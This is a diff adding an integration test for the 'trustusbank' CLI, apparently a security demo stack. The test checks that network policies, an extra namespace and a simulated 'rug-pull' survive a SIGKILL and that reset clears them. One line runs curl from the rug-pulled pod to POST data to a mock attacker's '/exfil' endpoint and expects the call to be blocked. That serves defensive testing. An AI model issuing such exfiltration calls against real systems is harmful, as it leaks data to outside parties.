@@ -1,5 +1,5 @@
 // `trustusbank up` and the commands that drive a running stack, as a user runs them.
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, afterEach, describe, expect, it } from 'vitest';
 import { isAlive, type StackState } from '../src/runtime/stack-state.ts';
@@ -101,6 +101,44 @@ describe('trustusbank up', () => {
     expect(await waitGone(status.pods.map((p) => p.pid!))).toEqual([]);
     expect((await cli(['status'])).code).toBe(3);
   }, 90_000);
+
+  it('keeps every applied policy, namespace and the rug-pull across a SIGKILL of up; reset returns to the initial state', async () => {
+    const ports = ['--attacker-port', '0', '--gateway-port', '0', '--agents-ui-port', '0', '--registry-port', '0'];
+    const first = startCli(['up', '--data-dir', data.path, ...ports]);
+    await first.waitForLine(/Ctrl-C/);
+    expect((await cli(['policies', 'on'])).code).toBe(0);
+    const extra = join(data.path, 'extra-namespace.yaml');
+    writeFileSync(extra, 'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: trustusbank-extra\n');
+    expect((await cli(['apply', '-f', extra])).code).toBe(0);
+    expect((await cli(['rugpull'])).code).toBe(0);
+    const before = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
+    const rugpulled = before.pods.find((p) => p.workload === 'currency-converter')!.digest;
+    expect(before.policies.length).toBeGreaterThan(5);
+    first.child.kill('SIGKILL');
+    await first.exited;
+    expect(await waitGone(before.pods.map((p) => p.pid!))).toEqual([]);
+
+    const second = startCli(['up', '--data-dir', data.path, ...ports]);
+    await second.waitForLine(/Ctrl-C/);
+    expect(second.lines.join('\n')).toMatch(/Desired state restored from the previous run \(\d+ resources/);
+    const after = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
+    expect(after.policies).toEqual(before.policies);
+    expect(after.pods.find((p) => p.workload === 'currency-converter')!.digest).toBe(rugpulled);
+    expect((await cli(['get', 'namespaces'])).stdout).toContain('trustusbank-extra');
+    // Enforced, not only listed: the rug-pulled converter still cannot reach the attacker.
+    const denied = await cli(['exec', '-n', 'trustusbank-bank-vendors', 'currency-converter', '--', 'trustusbank', 'curl', '-X', 'POST', '-d', '{}', 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil']);
+    expect(denied.code).toBe(56);
+
+    const reset = await cli(['reset', '--json']);
+    expect(reset.code).toBe(0);
+    expect((JSON.parse(reset.stdout) as { policiesRemoved: string[] }).policiesRemoved).toEqual(expect.arrayContaining(['Namespace trustusbank-extra', 'AuthorizationPolicy external-attacker/deny-bank-to-attacker']));
+    const initial = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
+    expect(initial.policies).toEqual([]);
+    expect(initial.pods.find((p) => p.workload === 'currency-converter')!.digest).not.toBe(rugpulled);
+    expect((await cli(['get', 'namespaces'])).stdout).not.toContain('trustusbank-extra');
+    second.child.kill('SIGINT');
+    expect(await second.exited).toBe(0);
+  }, 180_000);
 
   it('names the flag when the attacker port is taken, and starts nothing', async () => {
     const blocker = startCli(['workload', 'mock-attacker', '--port', '0', '--data-dir', data.path]);
